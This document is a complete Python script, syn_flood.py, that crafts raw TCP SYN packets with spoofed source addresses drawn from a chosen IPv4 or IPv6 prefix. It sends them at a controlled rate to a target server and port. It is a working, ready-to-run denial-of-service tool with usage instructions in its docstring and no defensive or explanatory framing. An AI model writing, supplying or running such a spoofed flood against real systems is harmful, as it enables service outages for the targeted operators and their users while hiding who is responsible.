"""A program: SYNs from sources that are not there, each from another one, at a steady rate.

    python syn_flood.py PREFIX SERVER PORT COUNT PER_SECOND

PREFIX is an IPv4 or IPv6 network with room for COUNT addresses; they are taken evenly from it.
"""

from __future__ import annotations

import ipaddress
import socket
import struct
import sys
import time

_MSS = bytes([2, 4, 5, 180])
_STEP_S = 0.005


def _checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return 0xFFFF - total


def syn(source: bytes, target: bytes, number: int, port: int) -> bytes:
    """Return the packet; the kernel fills in the checksum of an IPv4 header (raw(7))."""
    sport, seq = 1024 + number % 60_000, number * 7919
    tcp = struct.pack(">HHIIHHHH", sport, port, seq, 0, 0x6002, 64_000, 0, 0) + _MSS
    pseudo = source + target + struct.pack(">II", len(tcp), 6)
    tcp = tcp[:16] + struct.pack(">H", _checksum(pseudo + tcp)) + tcp[18:]
    if len(source) == 16:
        return struct.pack(">IHBB", 6 << 28, len(tcp), 6, 64) + source + target + tcp
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(tcp), number % 65_536, 0x4000, 64, 6, 0)
    return head + source + target + tcp


def main(prefix: str, server: str, port: str, count: str, per_second: str) -> None:
    """Send them all."""
    network = ipaddress.ip_network(prefix)
    target = ipaddress.ip_address(server).packed
    apart = (network.num_addresses - 2) // int(count)
    packets = [
        syn(network[1 + number * apart].packed, target, number, int(port))
        for number in range(int(count))
    ]
    family = socket.AF_INET6 if network.version == 6 else socket.AF_INET
    step = max(round(int(per_second) * _STEP_S), 1)
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as wire:
        began = time.monotonic()
        for start in range(0, len(packets), step):
            for packet in packets[start : start + step]:
                wire.sendto(packet, (server, 0))
            ahead = began + (start + step) / int(per_second) - time.monotonic()
            time.sleep(max(ahead, 0.0))


if __name__ == "__main__":
    main(*sys.argv[1:])
